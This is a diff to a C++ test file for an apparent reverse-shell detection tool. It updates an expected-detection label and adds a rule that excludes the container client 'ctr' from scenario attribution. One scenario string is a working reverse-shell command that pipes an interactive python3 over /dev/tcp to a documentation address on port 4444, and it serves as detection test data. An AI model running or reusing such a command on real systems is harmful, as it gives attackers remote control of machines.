@@ -133,7 +133,7 @@ const std::vector<Scenario>& Scenarios() {
       {"vigil_reverse_shell_interpreter_stdio_socket",
        C,
        "bash -c 'exec 3<>/dev/tcp/192.0.2.20/4444; exec python3 -i <&3 >&3 2>&3'",
-       {},
+       {"vigil_reverse_shell_cmdline"},
        C,
        "echo 'print(1)' | python3 -i >/dev/null 2>&1"},
       {"vigil_reverse_shell_cmdline",
@@ -600,8 +600,11 @@ std::string MarkerOf(const v1::Process& p) {
   return "";
 }
 
-// The scenario an event's process descends from ("" when none).
+// The scenario an event's process descends from ("" when none). The ctr
+// client that starts a container scenario carries its marker and script in
+// its own argv on the host; it is the test's tool, not the scenario.
 std::string ScenarioOf(const v1::Event& e) {
+  if (absl::EndsWith(e.process().exe(), "/ctr")) return "";
   if (std::string m = MarkerOf(e.process()); !m.empty()) return m;
   for (const v1::Process& a : e.ancestors()) {
     if (std::string m = MarkerOf(a); !m.empty()) return m;
